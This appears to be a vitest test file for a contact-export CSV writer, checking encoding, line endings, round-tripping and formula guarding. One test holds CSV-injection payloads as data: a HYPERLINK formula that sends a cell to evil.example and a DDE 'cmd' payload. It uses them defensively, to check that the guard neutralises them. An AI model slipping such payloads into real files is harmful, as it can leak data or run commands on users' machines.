import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ExportContact } from '../../lib/exchange/contact';
import { guardFormula } from '../../lib/exchange/csv/formula-guard';
import { CSV_SHAPE_IDS, type CsvShape } from '../../lib/exchange/csv/shape';
import { CSV_SHAPES } from '../../lib/exchange/csv/shapes';
import { csvHead, csvRows } from '../../lib/exchange/csv/write';
import { aContact, aFullContact, aPerson, typed } from './a-contact';
import { anyContact } from './any-contact';

/** A second library's view of the file, so that a mistake of the writer cannot hide in the reader. */
function readBack(file: string): string[][] {
  return parse(file, { bom: true, record_delimiter: '\r\n', relax_column_count: false });
}

function fileOf(shape: CsvShape, contacts: ExportContact[]): string {
  return csvHead(shape) + csvRows(shape, contacts);
}

describe.each(CSV_SHAPE_IDS.map((id) => CSV_SHAPES[id]))('a CSV file in the $id shape', (shape) => {
  it('has one byte order mark, at its very beginning', () => {
    const pieces = csvHead(shape) + csvRows(shape, [aFullContact()]) + csvRows(shape, [aFullContact()]);
    expect(pieces.startsWith('\uFEFF')).toBe(true);
    expect(pieces.lastIndexOf('\uFEFF')).toBe(0);
  });

  it('ends every line with CRLF, so that pieces of a long export join', () => {
    expect(csvHead(shape)).toMatch(/[^\r\n]\r\n$/);
    expect(csvRows(shape, [aContact(), aContact()]).match(/\r\n/g)).toHaveLength(2);
    expect(csvRows(shape, [])).toBe('');
  });

  it('has headings that are all different, and a cell for each', () => {
    expect(new Set(shape.headings).size).toBe(shape.headings.length);
    expect(shape.row(aContact())).toHaveLength(shape.headings.length);
    expect(shape.row(aFullContact())).toHaveLength(shape.headings.length);
  });

  it('is read back by another reader as the cells that went in, for any contacts', () => {
    fc.assert(
      fc.property(fc.array(anyContact, { maxLength: 4 }), (contacts) => {
        const [headings, ...rows] = readBack(fileOf(shape, contacts));
        expect(headings).toEqual(shape.headings);
        expect(rows).toEqual(contacts.map((contact) => shape.row(contact).map(guardFormula)));
      }),
      { numRuns: 60 },
    );
  });

  it('keeps line breaks, quotes, direction overrides and a megabyte of notes', () => {
    const notes = 'line one\r\nline "two",\nthree \u202Edesrever\u202C; 끝 '.repeat(25_000);
    expect(notes.length).toBeGreaterThan(1_000_000);
    const [, cells] = readBack(fileOf(shape, [aContact({ person: aPerson({ notes }) })]));
    expect(cells).toContain(notes);
  });

  it('lets no cell begin a formula', () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1)';
    const person = aPerson({
      name: typed(formula),
      title: typed('@SUM(1)'),
      notes: "-2+3+cmd|' /C calc'!A0\nsecond line",
    });
    const [, cells] = readBack(fileOf(shape, [aContact({ person })]));
    expect(cells).toContain(`'${formula}`);
    expect(cells?.filter((cell) => /^[=@-]/.test(cell))).toEqual([]);
  });

  it('leaves an international phone number as it is dialled', () => {
    const person = aPerson({ phones: [typed('+82 10-5550-0142')] });
    const [, cells] = readBack(fileOf(shape, [aContact({ person })]));
    expect(cells).toContain('+82 10-5550-0142');
  });
});
